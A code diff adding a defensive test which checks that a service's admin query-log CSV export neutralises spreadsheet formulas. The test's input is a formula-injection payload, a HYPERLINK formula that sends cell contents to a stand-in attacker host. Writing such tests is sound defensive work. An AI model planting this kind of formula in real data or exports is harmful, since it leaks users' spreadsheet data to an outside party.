@@ -5,7 +5,9 @@ from __future__ import annotations
 
 import asyncio
 import base64
+import csv
 import hashlib
+import io
 import json
 import subprocess
 import unicodedata
@@ -464,3 +466,16 @@ def test_concurrent_checks_are_each_logged_and_quota_is_exact(
         ).scalar_one()
     assert logged == {near_id: 5, free_id: 12}
     assert used == settings.checks.daily_quota
+
+
+def test_the_query_log_csv_neutralises_what_a_spreadsheet_would_run(
+    registry: Registry, admin: httpx.Client
+) -> None:
+    client_id, http = bank(registry)
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"点击")'
+    with http:
+        assert check(http, [{"id_number": unlisted_id(registry)}], reference=formula).status_code == 200
+    as_csv = admin.get(f"/v1/admin/banks/{client_id}/query-log", params={"format": "csv"})
+    assert as_csv.status_code == 200, as_csv.text
+    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
+    assert [row["reference"] for row in rows] == ["'" + formula]
